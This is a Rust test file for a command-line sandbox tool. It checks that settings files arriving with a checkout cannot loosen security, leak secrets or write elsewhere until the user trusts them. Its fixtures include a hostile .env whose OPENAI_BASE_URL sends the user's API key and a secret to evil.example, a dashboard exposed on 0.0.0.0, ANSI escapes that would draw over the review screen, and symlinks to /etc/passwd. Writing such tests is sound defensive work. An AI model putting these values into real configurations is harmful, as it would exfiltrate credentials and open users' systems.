//! Settings files that came with a checkout act on nothing of the user's until they are trusted.

use std::fs;
use std::os::unix::fs::symlink;

use serde_json::Value;

use crate::program::{CommandOutput, PYTHON_PATH, SANDBOX_VARIABLES, TestDirectory};

fn setting(ran: &CommandOutput, name: &str) -> Value {
    let all = ran.json();
    let settings = all["settings"].as_array().unwrap();
    settings.iter().find(|setting| setting["name"] == name).unwrap()["value"].clone()
}

fn show_settings(place: &TestDirectory) -> CommandOutput {
    place.run_with(
        &[("OPENAI_API_KEY", "sk-mine"), ("SECRET", "s3cret")],
        &["settings", "--format", "json"],
    )
}

const HOSTILE_DOTENV: &str = "\
OPENAI_BASE_URL=http://evil.example/${OPENAI_API_KEY}/${SECRET}
SANDBOX_LOG_FILE=/tmp/menace_hostile_log
SECURITY_LEVEL=1
MEMORY_LIMIT=64Gi
TIMEOUT=2
DASHBOARD_HOST=0.0.0.0
DASHBOARD_TOKEN=known-to-the-checkout
SCENARIO_NAME=${SECRET}
";

#[test]
fn a_hostile_dotenv_file_can_only_make_its_own_calls_stricter() {
    let place = TestDirectory::new();
    place.write(".env", HOSTILE_DOTENV);
    let ran = show_settings(&place);
    for (name, value) in [
        ("OPENAI_BASE_URL", Some("https://api.openai.com/v1")),
        ("SANDBOX_LOG_FILE", None),
        ("SECURITY_LEVEL", None),
        ("MEMORY_LIMIT", None),
        ("TIMEOUT", Some("2s")),
        ("DASHBOARD_HOST", Some("127.0.0.1")),
        ("DASHBOARD_TOKEN", None),
        ("SCENARIO_NAME", None),
    ] {
        assert_eq!(setting(&ran, name).as_str(), value, "{name}");
    }
    assert!(!ran.out.contains("s3cret") && !ran.err.contains("s3cret"), "{}", ran.err);
    for line in [
        "OPENAI_BASE_URL (.env line 1): it asks for OPENAI_API_KEY of your environment",
        "SANDBOX_LOG_FILE (.env line 2): only you may set it, with --log-file",
        "SECURITY_LEVEL (.env line 3): a checkout may set 3 at least",
        "MEMORY_LIMIT (.env line 4): a checkout may set 512Mi at most",
        "SCENARIO_NAME (.env line 8): it asks for SECRET of your environment",
        "DASHBOARD_TOKEN (.env line 7): only you may set it, in the environment",
        "`menace trust` shows and allows",
    ] {
        assert!(ran.err.contains(line), "{line}: {}", ran.err);
    }
    assert!(!std::path::Path::new("/tmp/menace_hostile_log").exists());
}

#[test]
fn a_hostile_yaml_file_is_held_to_the_same_rules() {
    let place = TestDirectory::new();
    place.write(
        "sandbox_settings.yaml",
        "dashboard_host: 0.0.0.0\nsandbox_data_dir: /tmp/elsewhere\nroi_cycles: 4\n\
         sandbox_env_presets: '[{\"SECURITY_LEVEL\": 1}]'\n",
    );
    let ran = show_settings(&place);
    assert_eq!(setting(&ran, "DASHBOARD_HOST"), "127.0.0.1");
    assert_eq!(setting(&ran, "SANDBOX_DATA_DIR"), "sandbox_data");
    assert_eq!(setting(&ran, "SANDBOX_ENV_PRESETS"), Value::Null);
    assert_eq!(setting(&ran, "ROI_CYCLES"), "4");
    assert!(ran.err.contains("sandbox_settings.yaml line 2): a checkout may only name a path"));
}

#[test]
fn trust_is_shown_given_listed_lost_by_a_change_and_revoked() {
    let place = TestDirectory::new();
    place.write(".env", "DASHBOARD_HOST=127.0.0.9\nDASHBOARD_TOKEN=0123456789abcdef\n");
    let host = || setting(&show_settings(&place), "DASHBOARD_HOST");
    assert_eq!(host(), "127.0.0.1");

    let asked = place.run(&["trust"]);
    assert_eq!(asked.code, Some(2), "no terminal to ask on: {}", asked.err);
    assert!(asked.err.contains("--yes"), "{}", asked.err);
    assert_eq!(host(), "127.0.0.1");

    let trusted = place.run(&["trust", "--yes"]);
    assert_eq!(trusted.code, Some(0), "{}", trusted.err);
    assert!(trusted.out.contains("DASHBOARD_HOST = 127.0.0.9"), "{}", trusted.out);
    assert!(!trusted.out.contains("0123456789abcdef"), "a secret is masked: {}", trusted.out);
    assert_eq!(host(), "127.0.0.9");
    let list = place.run(&["trust", "--list", "--format", "json"]).json();
    assert_eq!(list[0]["state"], "unchanged");

    place.write(".env", "DASHBOARD_HOST=127.0.0.10\n");
    assert_eq!(host(), "127.0.0.1");
    assert!(place.run(&["trust", "--list"]).out.starts_with("changed"));

    assert_eq!(place.run(&["trust", "--yes"]).code, Some(0));
    assert_eq!(host(), "127.0.0.10");
    let revoked = place.run(&["trust", "--revoke"]);
    assert!(revoked.out.contains("not trusted any longer"), "{}", revoked.out);
    assert_eq!(host(), "127.0.0.1");
    assert_eq!(place.run(&["trust", "--list"]).out, "no file is trusted\n");
}

/// Also where the checkout is the home directory, as in containers.
#[test]
fn a_checkout_cannot_trust_itself() {
    let place = TestDirectory::new();
    place.write(".env", "DASHBOARD_HOST=127.0.0.9\n");
    assert_eq!(place.run(&["trust", "--yes"]).code, Some(0));
    assert_eq!(setting(&show_settings(&place), "DASHBOARD_HOST"), "127.0.0.9");
    let list = "menace/trusted_files.json";
    let inside = place.path().join(".local/share").join(list);
    fs::create_dir_all(inside.parent().unwrap()).unwrap();
    fs::copy(place.data_home().join(list), inside).unwrap();
    let in_home = [
        ("HOME", place.path().to_str().unwrap().to_owned()),
        ("XDG_DATA_HOME", place.path().join(".local/share").to_str().unwrap().to_owned()),
    ];
    for (name, value) in &in_home {
        let arguments = ["settings", "--format", "json"];
        let mut command = place.command(&arguments);
        command.env_remove("XDG_DATA_HOME").env(name, value);
        let ran = CommandOutput::from(command.output().unwrap());
        assert_eq!(setting(&ran, "DASHBOARD_HOST"), "127.0.0.1", "{name}");
    }
}

#[test]
fn a_dotenv_file_overrides_and_clears_nothing_of_a_trusted_yaml_file() {
    let place = TestDirectory::new();
    let own = tempfile::tempdir().unwrap();
    let mine = own.path().join("mine.yaml");
    fs::write(&mine, "security_level: 5\nopenai_base_url: http://localhost:1/v1\n").unwrap();
    place.write(".env", "SECURITY_LEVEL=3\nOPENAI_BASE_URL=\nSCENARIO_NAME=theirs\n");
    let arguments = ["settings", "--format", "json", "--settings-yaml", mine.to_str().unwrap()];
    let ran = place.run(&arguments);
    assert_eq!(setting(&ran, "SECURITY_LEVEL"), "5");
    assert_eq!(setting(&ran, "OPENAI_BASE_URL"), "http://localhost:1/v1");
    assert_eq!(setting(&ran, "SCENARIO_NAME"), "theirs");
}

#[test]
fn the_review_cannot_be_drawn_over() {
    let place = TestDirectory::new();
    place
        .write(".env", "SCENARIO_NAME=x\nVA_PROMPT_PREFIX=\"a\\r\\n\u{1b}[1A\u{1b}[2Kharmless\"\n");
    let ran = place.run(&["trust", "--yes"]);
    assert_eq!(ran.code, Some(0), "{}", ran.err);
    assert!(ran.out.contains(r"VA_PROMPT_PREFIX = a\r\n\x1b[1A\x1b[2Kharmless"), "{}", ran.out);
}

#[test]
fn settings_files_that_are_links_or_pipes_end_the_command_with_the_way_out() {
    for name in [".env", "sandbox_settings.yaml"] {
        let place = TestDirectory::new();
        symlink("/etc/passwd", place.path().join(name)).unwrap();
        let ran = place.run(&["settings"]);
        assert_eq!(ran.code, Some(2), "{}", ran.out);
        assert!(ran.err.contains("symbolic link"), "{}", ran.err);
        assert!(!ran.err.contains("root:"), "{}", ran.err);

        fs::remove_file(place.path().join(name)).unwrap();
        let made = std::process::Command::new("mkfifo")
            .env(PYTHON_PATH.0, PYTHON_PATH.1)
            .arg(place.path().join(name))
            .status();
        assert!(made.unwrap().success());
        let ran = place.run(&["settings"]);
        assert_eq!(ran.code, Some(2), "{}", ran.out);
        assert!(ran.err.contains("named pipe"), "{}", ran.err);
    }
}

#[test]
fn a_fresh_dotenv_file_is_trusted_as_it_is() {
    let place = TestDirectory::new();
    assert_eq!(place.run(&["env", "init"]).code, Some(0));
    let ran = place.run(&["settings", "--format", "json"]);
    assert!(!ran.err.contains("left out"), "{}", ran.err);
    assert_eq!(setting(&ran, "AUTO_DASHBOARD_PORT"), "8001");
}

#[test]
fn links_and_pipes_in_a_data_directory_end_the_command_and_are_not_written_to() {
    let place = TestDirectory::new();
    let outside = tempfile::tempdir().unwrap();
    let target = outside.path().join("precious");
    fs::write(&target, "kept").unwrap();
    let refused = |arguments: &[&str]| {
        let ran = place.run(arguments);
        assert_eq!(ran.code, Some(2), "{arguments:?}: {}", ran.err);
        assert!(ran.err.contains("data directory"), "{}", ran.err);
    };
    let data = place.path().join("sandbox_data");
    for name in ["menace.db.lock", "roi_history.json.lock", "flags/x"] {
        let path = data.join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        symlink(&target, &path).unwrap();
        refused(&["failures"]);
        refused(&["run", "--budget", "1s"]);
        fs::remove_dir_all(&data).unwrap();
    }
    symlink(outside.path(), &data).unwrap();
    refused(&["failures"]);
    fs::remove_file(&data).unwrap();
    fs::create_dir(&data).unwrap();
    let made = std::process::Command::new("mkfifo").arg(data.join("roi_history.json")).status();
    assert!(made.unwrap().success());
    refused(&["failures"]);
    assert_eq!(fs::read_to_string(&target).unwrap(), "kept");
    assert_eq!(fs::read_dir(outside.path()).unwrap().count(), 1);
}

#[test]
fn a_database_that_came_with_the_checkout_runs_nothing_and_names_no_other_repository() {
    let place = TestDirectory::new();
    fs::create_dir(place.path().join("repo")).unwrap();
    place.write("repo/desk.py", "def mean(values: list) -> float:\n    return 1 / len(values)\n");
    let ran = place
        .run_with(&SANDBOX_VARIABLES, &["run", "--repo", "repo", "--budget", "10s", "--seed", "1"]);
    assert_eq!(ran.code, Some(0), "{}", ran.err);
    let database = place.path().join("sandbox_data/menace.db");
    let connection = rusqlite::Connection::open(&database).unwrap();
    let elsewhere = tempfile::tempdir().unwrap();
    connection
        .execute("UPDATE runs SET repository = ?1", [elsewhere.path().to_str().unwrap()])
        .unwrap();
    let exported = place.run_with(&SANDBOX_VARIABLES, &["export-tests"]);
    assert_eq!(exported.code, Some(2), "{} {}", exported.out, exported.err);
    assert!(exported.err.contains("--repo"), "{}", exported.err);
    assert_eq!(fs::read_dir(elsewhere.path()).unwrap().count(), 0);

    connection.execute_batch("CREATE VIEW extra AS SELECT 1").unwrap();
    let refused = place.run(&["failures"]);
    assert_eq!(refused.code, Some(2), "{}", refused.out);
    assert!(refused.err.contains("view `extra`"), "{}", refused.err);
}
